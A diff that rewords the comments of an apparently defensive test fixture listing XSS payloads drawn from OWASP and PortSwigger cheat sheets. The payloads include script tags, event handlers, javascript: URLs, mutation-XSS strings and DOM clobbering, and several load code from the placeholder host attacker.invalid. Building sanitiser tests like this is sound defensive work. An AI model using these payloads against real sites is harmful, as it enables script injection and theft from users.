@@ -1,11 +1,11 @@
 /**
- * What people write who want their script to run in a reader's page, after OWASP's and PortSwigger's cheat sheets and published ways round
- * sanitisers. Whatever runs says so: it sets `window.attacked`, opens a dialog, or asks `attacker.invalid` for something.
+ * Attacks from OWASP's and PortSwigger's cheat sheets and published sanitiser bypasses. A
+ * successful one sets `window.attacked`, opens a dialog, or requests `attacker.invalid`.
  */
 
 const run = 'window.attacked=1;alert(1)'
 
-/** Scripts, and tags that run or load by themselves. */
+/** Scripts, and elements that run or load on their own. */
 const tags = [
   `<script>${run}</script>`,
   `<SCRIPT SRC=https://attacker.invalid/x.js></SCRIPT>`,
@@ -35,7 +35,7 @@ const tags = [
   `<applet code="https://attacker.invalid/x.class"></applet>`,
 ]
 
-/** Handlers on whatever tag. */
+/** Event handlers on any element. */
 const handlers = [
   `<img src=x onerror="${run}">`,
   `<img src=x:x onerror=${run}//`,
@@ -69,7 +69,7 @@ const handlers = [
   `<b onfocusin\u000b=${run} tabindex=1 autofocus>x</b>`,
 ]
 
-/** Addresses that are code, or lead elsewhere than they seem to. */
+/** Addresses that contain code or hide their target. */
 const addresses = [
   `<a href="javascript:${run}">x</a>`,
   `<a href="JaVaScRiPt:${run}">x</a>`,
@@ -107,7 +107,7 @@ const addresses = [
   `<div data-badge="../../../api/get/news?"></div>`,
 ]
 
-/** Foreign markup, and markup that means something else once it has been read and written again. */
+/** Foreign markup, and markup that changes its meaning when parsed and serialised again. */
 const mutations = [
   `<svg onload="${run}">`,
   `<svg/onload=alert(1)>`,
@@ -143,7 +143,7 @@ const mutations = [
   `<a href="https://x/?a=&quot;><img src=x onerror=${run}>">x</a>`,
 ]
 
-/** Styles, names that stand in a page's way, templates, and characters that deceive. */
+/** Styles, names that clobber globals, templates, and deceptive characters. */
 const others = [
   `<style>@import 'https://attacker.invalid/x.css';</style>`,
   `<div style="background:url(https://attacker.invalid/x.png)">x</div>`,
@@ -179,5 +179,5 @@ const others = [
   `https://x.invalid/<img src=x onerror=${run}>`,
 ]
 
-/** Each once. They are tried as HTML and as plain text. */
+/** All attacks without duplicates, tried as HTML and as plain text. */
 export const attacks: readonly string[] = [...tags, ...handlers, ...addresses, ...mutations, ...others]
